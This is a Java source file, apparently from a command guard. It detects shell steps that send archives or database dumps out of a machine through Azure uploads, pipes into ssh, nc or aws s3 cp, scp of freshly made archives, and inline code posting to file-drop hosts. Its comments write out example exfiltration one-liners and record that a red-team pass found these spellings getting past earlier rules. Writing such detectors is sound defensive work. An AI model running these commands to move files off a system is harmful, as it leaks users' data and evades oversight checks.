package io.github.providergateway.guard.internal;

import io.github.providergateway.guard.shell.Word;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;

/**
 * The out rules' harms under the spellings the red-team pass of issue 80 found past them: an
 * archive put in Azure's storage ({@code az storage blob upload -f dump}, {@code azcopy copy}), and
 * an archive made on the fly and piped to another machine ({@code tar czf - . | ssh host 'cat >
 * x'}, {@code tar cz . | aws s3 cp - s3://…}) where no file of it is ever named.
 */
final class OutSpellings {
  private OutSpellings() {}

  /** A file name that is an archive, a bundle or a dump. */
  private static final Pattern ARCHIVE =
      Pattern.compile(
          "(?i)\\.(?:tar|tgz|tbz2?|txz|tzst|zip|7z|rar|gz|bz2|xz|zst|bundle|dump|sql|sqlite3?|db"
              + "|bak|pack)$");

  /** Adds the predicates under their names. */
  static void addTo(Map<String, Where.Predicate> named) {
    named.put("azure-uploads-archive", (scan, step, read) -> azureUploadsArchive(step.args()));
    named.put(
        "copies-made-archive",
        (scan, step, read) -> {
          List<Word> operands = NetworkSends.copyOperands(step.args());
          if (operands.size() < 2) {
            return false;
          }
          String last = operands.get(operands.size() - 1).text();
          String host = Hosts.remote(last);
          if (host == null || Hosts.loopback(host)) {
            return false;
          }
          for (Step other : scan.steps()) {
            if (other == step) {
              break; // an archive made before the copy, in the same call
            }
            String made = archiveMade(other);
            for (Word source : operands.subList(0, operands.size() - 1)) {
              if (made != null && made.equals(source.text())) {
                return true; // tar czf /tmp/notes.txt . && scp /tmp/notes.txt host: whatever its
                // name
              }
            }
          }
          return false;
        });
    named.put(
        "code-posts-to-drop-host",
        (scan, step, read) -> {
          String code = InterpreterCode.of(step);
          return code != null && code.length() < 65536 && postsToDropHost(code);
        });
    named.put(
        "sends-piped-archive",
        (scan, step, read) -> {
          if (!receivesStdin(step.program(), step.args())) {
            return false;
          }
          String source = scan.source();
          if (source == null || source.indexOf('|') < 0) {
            return false;
          }
          List<Step> steps = scan.steps();
          int at = steps.indexOf(step);
          return at > 0 && archivesToStdout(steps.get(at - 1));
        });
  }

  /** Calls in inline code that send a body. */
  private static final List<String> SENDING_CALLS =
      List.of(
          ".post(",
          ".put(",
          "files=",
          "data=",
          "method:",
          "method=",
          "urlopen(",
          "upload",
          "Net::HTTP::Post",
          "curl_init");

  /**
   * Inline code that sends to a paste or file-drop host ({@code requests.post('https://0x0.st',
   * files=…)}): a URL of such a host and a call that sends a body.
   */
  static boolean postsToDropHost(String code) {
    boolean sends = false;
    for (String call : SENDING_CALLS) {
      sends |= code.contains(call);
    }
    if (!sends) {
      return false;
    }
    for (int at = code.indexOf("http"); at >= 0; at = code.indexOf("http", at + 4)) {
      int end = at;
      while (end < code.length() && end - at < 300 && "'\"` )\n,".indexOf(code.charAt(end)) < 0) {
        end++;
      }
      String url = code.substring(at, end);
      if (url.contains("://") && OutPredicates.dropHost(Hosts.of(url))) {
        return true;
      }
    }
    return false;
  }

  /** {@code az storage blob upload -f FILE} or {@code azcopy copy FILE https://…}. */
  static boolean azureUploadsArchive(List<Word> args) {
    boolean upload = false;
    for (int i = 0; i < args.size(); i++) {
      String t = args.get(i).text();
      upload |= t.equals("upload") || t.equals("copy") || t.equals("cp");
      String value = null;
      if ((t.equals("-f") || t.equals("--file")) && i + 1 < args.size()) {
        value = args.get(i + 1).text();
      } else if (t.startsWith("--file=")) {
        value = t.substring("--file=".length());
      } else if (upload && !t.startsWith("-") && !t.contains("://")) {
        value = t;
      }
      if (upload && value != null && PatternLiterals.finds(ARCHIVE, value)) {
        return true;
      }
    }
    return false;
  }

  /**
   * {@return the archive a creating tar writes: its {@code -f} file, {@code -} for standard output
   * (no {@code -f}, or {@code -f -}); null where tar creates nothing}
   */
  private static String tarFile(List<Word> args) {
    boolean creates = false;
    String file = null;
    for (int i = 0; i < args.size(); i++) {
      String t = args.get(i).text();
      if (t.equals("--create") || t.equals("-c")) {
        creates = true;
      } else if (t.startsWith("--file=")) {
        file = t.substring("--file=".length());
      } else if ((t.equals("--file") || t.equals("-f")) && i + 1 < args.size()) {
        file = args.get(i + 1).text();
      } else if ((i == 0 || t.startsWith("-") && !t.startsWith("--"))
          && t.matches("-?[A-Za-z]{1,12}")) {
        String letters = t.startsWith("-") ? t.substring(1) : t;
        creates |= letters.indexOf('c') >= 0;
        if (letters.endsWith("f") && i + 1 < args.size()) {
          file = args.get(i + 1).text();
        }
      }
    }
    return !creates ? null : file == null ? "-" : file;
  }

  /** {@return the file a {@code tar c…f FILE} or {@code zip FILE …} makes, or null} */
  static String archiveMade(Step step) {
    List<Word> args = step.args();
    switch (step.program()) {
      case "tar", "bsdtar", "gtar" -> {
        String file = tarFile(args);
        return file == null || file.equals("-") ? null : file;
      }
      case "zip", "7z" -> {
        for (Word w : args) {
          String t = w.text();
          if (!t.startsWith("-") && !t.equals("a")) {
            return t; // zip ARCHIVE files…, 7z a ARCHIVE files…
          }
        }
        return null;
      }
      default -> {
        return null;
      }
    }
  }

  /** A program that sends what it reads on standard input to another machine. */
  private static boolean receivesStdin(String program, List<Word> args) {
    return switch (program) {
      case "ssh" -> true;
      case "aws", "gsutil", "gcloud" -> {
        boolean dash = false;
        boolean copy = false;
        for (Word w : args) {
          dash |= w.text().equals("-");
          copy |= w.text().equals("cp");
        }
        yield dash && copy;
      }
      case "nc", "ncat", "netcat", "socat" -> true;
      case "rclone" -> !args.isEmpty() && args.get(0).text().equals("rcat");
      default -> false;
    };
  }

  /**
   * {@code tar c… [-f -]}, {@code zip - …}, {@code git archive} without {@code -o}; and (decision
   * 224) a database's dump without a file of its own ({@code pg_dump -Fc}, {@code mysqldump}).
   */
  private static boolean archivesToStdout(Step step) {
    List<Word> args = step.args();
    switch (step.program()) {
      case "pg_dump", "pg_dumpall", "mysqldump", "mariadb-dump" -> {
        for (Word w : args) {
          String text = w.text();
          if (text.equals("-f")
              || text.startsWith("--file")
              || text.equals("-r")
              || text.startsWith("--result-file")) {
            return false;
          }
        }
        return true;
      }
      case "tar", "bsdtar", "gtar" -> {
        return "-".equals(tarFile(args));
      }
      case "zip" -> {
        for (Word w : args) {
          if (w.text().equals("-")) {
            return true;
          }
        }
        return false;
      }
      case "git" -> {
        boolean archive = false;
        for (Word w : args) {
          archive |= w.text().equals("archive");
          if (w.text().equals("-o") || w.text().startsWith("--output")) {
            return false;
          }
        }
        return archive;
      }
      default -> {
        return false;
      }
    }
  }
}
